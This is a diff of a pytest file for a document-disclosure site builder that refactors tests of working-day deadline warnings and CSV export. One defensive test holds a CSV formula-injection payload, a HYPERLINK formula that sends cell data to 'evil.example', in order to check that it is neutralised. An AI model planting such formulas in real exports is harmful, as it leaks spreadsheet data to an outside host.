@@ -15,8 +15,10 @@ import pytest
 from hypothesis import HealthCheck, example, given, settings
 from hypothesis import strategies as st
 
-from conftest import ROOT, build_into, run_build
+from build_helpers import build
+from conftest import ROOT
 from content_helpers import epoch, write_document, write_interpretation, write_task_table
+from messages import check_project, rendered_pages
 from disclosure.load.config import load_config
 from disclosure.model.deadlines import due_date
 from disclosure.errors import Problems, display_path
@@ -90,20 +92,20 @@ def _reference_add(start: date, count: int) -> date:
 
 
 def test_a_plan_near_the_calendars_end_builds_and_warns_once(project):
-    """The issue's case as a build: a plan written 2026-11-20 (or 11-20 of whatever year the
-    installed calendar ends with), `印发后40个工作日内` → rc 0, one warning naming the first task."""
+    """The issue's case: a plan written 2026-11-20 (or 11-20 of whatever year the installed calendar
+    ends with), `印发后40个工作日内` → no error, one warning naming the first task, and the pages
+    show the dates counted Monday to Friday past the calendar."""
     content = project / "content"
     plan = date(LAST, 11, 20)
     write_document(content, "jihua", written=str(plan), published=str(plan))
     table = task_table(content, "jihua-renwu", "jihua", "印发后40个工作日内", "印发后60个工作日内", "全年")
-    result = run_build("--output", str(project / "site"), "--content", str(content),
-                       "--config", str(project / "config.yaml"), env_date=epoch(date(LAST, 12, 4)))
-    assert result.returncode == 0, result.stderr
-    beyond = [line for line in result.stderr.split("\n") if "按周一至周五" in line]
-    assert len(beyond) == 1, result.stderr  # once per build, not once per task
+    checked = check_project(project, epoch=epoch(date(LAST, 12, 4)))
+    assert not checked.errors, checked.text
+    beyond = [line for line in checked.lines if "按周一至周五" in line]
+    assert len(beyond) == 1, checked.text  # once per build, not once per task
     assert beyond[0].startswith(f"{display_path(table)}:{line_of(table, '印发后40个工作日内')}: 警告：")
     assert f"{FIRST}–{LAST}" in beyond[0] and "另有 1 项" in beyond[0]
-    page = (project / "site" / "tasks" / "jihua-renwu" / "index.html").read_text("utf-8")
+    page = rendered_pages(project, epoch=epoch(date(LAST, 12, 4)))["tasks/jihua-renwu/index.html"]
     assert str(_reference_add(plan, 40)) in page and str(_reference_add(plan, 60)) in page
     if LAST == 2026:  # the issue's numbers: 2026-11-20 is a Friday, no holiday until 2027
         assert "2027-01-15" in page
@@ -285,7 +287,7 @@ def test_any_deadline_text_gives_a_date_none_or_an_editors_error(text, plan):
 # --- #5 formula cells in the CSV -------------------------------------------------------------------
 
 
-def test_formula_cells_are_neutralised_in_the_csv_the_build_writes(project):
+def test_formula_cells_are_neutralised_in_the_csv_the_build_writes(project, capsys, monkeypatch):
     content = project / "content"
     hostile = {
         "formula-eq": {"title": '=HYPERLINK("http://evil.example/?"&A1,"点击")'},
@@ -296,8 +298,8 @@ def test_formula_cells_are_neutralised_in_the_csv_the_build_writes(project):
     }
     for doc_id, fields in hostile.items():
         write_document(content, doc_id, **fields)
-    result = build_into(project / "site", content, project / "config.yaml")
-    assert result.returncode == 0, result.stderr
+    run = build(capsys, monkeypatch, project, project / "site", "--no-cache", "--no-search")
+    assert run.code == 0, run.err
     raw = (project / "site" / "api" / "documents.csv").read_bytes()
     rows = list(csv.reader(io.StringIO(raw.decode("utf-8-sig"), newline="")))
     cells = [cell for row in rows for cell in row]
